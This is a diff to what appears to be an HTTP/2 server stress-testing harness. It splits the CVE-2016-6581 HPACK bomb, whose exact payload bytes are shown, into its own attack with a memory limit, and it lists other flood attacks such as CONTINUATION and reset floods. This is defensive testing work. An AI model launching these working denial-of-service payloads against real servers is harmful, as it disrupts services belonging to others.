@@ -133,18 +133,6 @@ async def _header_floods(scene: Scene) -> None:
         await peer.flood(lambda stream: frames.headers(stream, _GET, fields))
 
 
-async def _hpack_bombs(scene: Scene) -> None:
-    """CVE-2016-6581: refers to a long field, a byte for each time."""
-    block = b"\x40\x01x\x7e" + b"v" * 126 + b"\xbe" * 16_000  # stores the field, refers to it
-    async with _Peer(scene) as peer:
-        await peer.flood(
-            lambda stream: (
-                frames.headers(stream, _GET, ends=False)
-                + frames.continuation(stream, block, ends=True)
-            )
-        )
-
-
 async def _continuations(scene: Scene) -> None:
     """CVE-2024-27316 and others: headers that never end."""
     block = frames.field_block([(b"x", b"v" * 120)] * 100)
@@ -209,7 +197,6 @@ _KINDS: tuple[_Kind, ...] = (
     _slow_readers,
     _no_window,
     _header_floods,
-    _hpack_bombs,
     _continuations,
     _settings,
     _pings,
@@ -227,21 +214,41 @@ _KINDS: tuple[_Kind, ...] = (
     is_of_transport=True,
 )
 async def hostile_peers(scene: Scene) -> None:
-    """Misuses HTTP/2 in 16 ways from 64 connections at once.
+    """Misuses HTTP/2 in 15 ways from 60 connections at once.
 
     Resets, floods of each kind of frame, bombs, readers and writers that stall: each makes the
     server work or keep something for little of the attacker's.
     """
 
-    async def misuse(kind: _Kind) -> None:
-        scene.tally[kind.__name__.strip("_").replace("_", "-")] += 1
-        try:
-            await kind(scene)
-        except OSError:  # the server hung up, as it should
-            await asyncio.sleep(_RETRY_SECONDS)
-
     _bomb()  # made once, before
     await scene.begin()
     async with asyncio.TaskGroup() as group:
         for kind in _KINDS:
-            group.create_task(scene.repeat(_EACH, functools.partial(misuse, kind)))
+            group.create_task(scene.repeat(_EACH, functools.partial(_misuse, scene, kind)))
+
+
+# Over grpcio it is not bounded: docs/transports.md says what an operator can do.
+@attack(source="CVE-2016-6581", bar=Bar(memory_mib=64))
+async def hpack_bombs(scene: Scene) -> None:
+    """Sends a long field of metadata once, and refers to it 16,000 times, a byte for each."""
+    block = b"\x40\x01x\x7e" + b"v" * 126 + b"\xbe" * 16_000
+
+    async def bomb(scene: Scene) -> None:
+        async with _Peer(scene) as peer:
+            await peer.flood(
+                lambda stream: (
+                    frames.headers(stream, _GET, ends=False)
+                    + frames.continuation(stream, block, ends=True)
+                )
+            )
+
+    await scene.begin()
+    await scene.repeat(_EACH, functools.partial(_misuse, scene, bomb))
+
+
+async def _misuse(scene: Scene, kind: _Kind) -> None:
+    scene.tally[kind.__name__.strip("_").replace("_", "-")] += 1
+    try:
+        await kind(scene)
+    except OSError:  # the server hung up, as it should
+        await asyncio.sleep(_RETRY_SECONDS)
